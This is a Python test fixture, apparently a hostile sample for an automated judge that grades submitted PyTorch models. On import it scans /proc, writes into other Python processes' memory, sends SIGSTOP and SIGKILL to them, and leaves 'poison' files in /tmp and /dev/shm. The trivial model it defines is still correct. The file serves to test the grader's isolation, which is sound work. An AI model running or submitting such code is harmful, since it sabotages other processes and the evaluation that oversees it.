# Hostile, sample L1/1: correct, but goes for the process the judge has already started for the NEXT candidate (and
# for any other candidate's process it can find): SIGKILLs or SIGSTOPs every process it can see, tries to ptrace-attach
# to each and to write into its memory, and leaves files in /tmp and /dev/shm for whoever comes next. Expected: its
# own verdict (correct); the next honest candidate is judged right in the process started ahead for it, which this one
# never saw.
import os
import signal
import torch.nn as nn


def _attack():
    me = os.getpid()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid = int(name)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if b"python" not in cmdline:  # never the machine's other programs, if a sandbox were missing
            continue
        try:
            with open(f"/proc/{pid}/mem", "r+b") as mem:  # a write into another candidate's process
                mem.seek(0x400000)
                mem.write(b"\xcc")
        except OSError:
            pass
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "kbh-left-for-the-next-candidate"), "w") as f:
                f.write("poison")
        except OSError:
            pass


_attack()


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 2.0 + 1.0
